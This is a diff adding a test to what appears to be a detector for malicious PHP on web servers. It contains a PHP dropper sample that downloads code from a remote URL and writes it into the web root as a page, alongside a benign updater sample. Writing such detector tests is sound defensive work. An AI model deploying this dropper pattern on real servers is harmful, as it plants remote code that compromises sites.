@@ -150,4 +150,27 @@ file_put_contents(__DIR__ . '/cache/stamp.php', '<?php return ' . time() . ';');
 `;
     expect(isAlarm('/var/www/html/feed.php', cache)).toBe(false);
   });
+
+  it('ranks downloaded code written through fopen() to a page named in a variable critical, and a downloaded archive not', () => {
+    const dropper = `<?php
+function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
+$upload = $_SERVER['DOCUMENT_ROOT'] . "/css.php";
+$code = grab("https://raw.githubusercontent.com/x/y/master/cah.php");
+$open = fopen($upload, 'w');
+fwrite($open, $code);
+fclose($open);
+`;
+    expect(top('/var/www/html/rss.php', dropper)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves code it downloads as a server page/),
+    });
+    const updater = `<?php
+$zip = file_get_contents('https://downloads.example.org/app-2.1.zip');
+$h = fopen(__DIR__ . '/tmp/update.zip', 'wb');
+fwrite($h, $zip);
+fclose($h);
+$version = include __DIR__ . '/version.php';
+`;
+    expect(isAlarm('/var/www/html/update.php', updater)).toBe(false);
+  });
 });
